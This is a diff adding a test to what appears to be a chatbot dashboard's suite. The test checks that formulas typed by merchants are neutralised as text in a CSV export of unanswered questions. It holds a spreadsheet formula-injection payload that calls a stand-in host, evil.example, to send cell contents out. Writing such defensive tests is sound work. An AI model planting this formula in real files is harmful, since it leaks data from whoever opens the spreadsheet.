@@ -150,3 +150,17 @@ def test_the_lead_downloads_tables_and_labelled_questions(rasa_stack, desk):
         timeout=30,
     )
     assert foreign.status_code == 403
+
+
+def test_a_merchants_formula_reaches_the_leads_spreadsheet_as_text(rasa_stack, merchants, desk):
+    """The attacker is a merchant: what they type lands in the unanswered questions' CSV, which the
+    lead opens in a spreadsheet. A formula there must stay text."""
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"qwerty zxcv")'
+    attacker = merchants().connect()
+    attacker.turn(formula)
+    lead = desk.new_agent("组长", role=AgentRole.LEAD).login(rasa_stack.rasa_url)
+    assert formula in unanswered_texts(figures(lead))  # the board shows it as typed (as text)
+    table = lead.get("/insights/csv/unanswered?period=today")
+    cells = [cell for row in csv.reader(io.StringIO(table.content.decode("utf-8-sig"))) for cell in row]
+    assert any(cell.startswith(f"'{formula}") for cell in cells)
+    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
